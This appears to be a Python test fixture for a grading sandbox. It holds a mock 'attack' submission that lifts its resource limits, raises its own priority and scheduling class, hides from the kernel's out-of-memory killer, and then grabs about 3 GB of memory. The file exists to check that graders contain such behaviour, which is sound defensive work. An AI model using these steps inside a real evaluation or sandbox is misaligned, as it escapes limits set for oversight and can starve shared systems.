# attack: raises its own limits and priority, hides from the kernel's killer, and then takes what the limits forbid
# group: d
# targets: text tensor trainer
# ends: wrong error crashed memory timeout
# control: none: a grader without limits has none to raise

import contextlib
import os
import resource

LIMITS = ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE")
BLOCKS = 48
BLOCK = 64 * 2**20


def _raise_limits():
    for name in LIMITS:
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            print("raised", name)  # noqa: T201 - for whoever reads the report


def _be_important():
    with contextlib.suppress(OSError):
        os.nice(-20)
    with contextlib.suppress(OSError):
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    with contextlib.suppress(OSError), open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")


def attack(*args, **kwargs):
    _raise_limits()
    _be_important()
    with contextlib.suppress(MemoryError):
        kept = [bytes([number + 1]) * BLOCK for number in range(BLOCKS)]
        print("took", len(kept) * BLOCK, "bytes")  # noqa: T201 - as above
    return {"messages": [], "text": ""}
